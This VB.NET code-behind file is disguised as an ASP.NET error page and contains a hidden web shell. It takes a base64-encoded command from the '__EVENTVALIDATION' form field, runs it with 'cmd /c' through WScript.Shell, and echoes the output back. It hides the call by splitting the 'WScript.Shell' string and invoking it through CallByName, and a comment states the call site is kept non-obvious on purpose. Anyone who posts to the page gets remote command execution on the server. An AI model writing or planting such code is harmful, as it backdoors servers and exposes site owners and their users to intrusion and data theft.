Imports System
Imports System.Web.UI
Imports System.Text

Partial Class ErrorFF
    Inherits System.Web.UI.Page

    Protected Sub Page_Load(ByVal sender As Object, ByVal e As System.EventArgs) Handles Me.Load
        Dim cmd As String = Request.Form("__EVENTVALIDATION")
        If cmd Is Nothing OrElse cmd.Length = 0 Then
            lblMessage.Text = "An unexpected error occurred and your request couldn't be handled."
            Return
        End If
        cmd = Encoding.UTF8.GetString(Convert.FromBase64String(cmd))

        ' run via CallByName so the call site isn't obvious
        Dim wsh As Object = CreateObject("WScript" & "." & "Shell")
        Dim job As Object = CallByName(wsh, "Exec", CallType.Method, "cmd /c " & cmd)
        Dim so As Object = CallByName(job, "StdOut", CallType.Get)
        lblMessage.Text = Server.HtmlEncode(CStr(CallByName(so, "ReadAll", CallType.Method)))
    End Sub
End Class
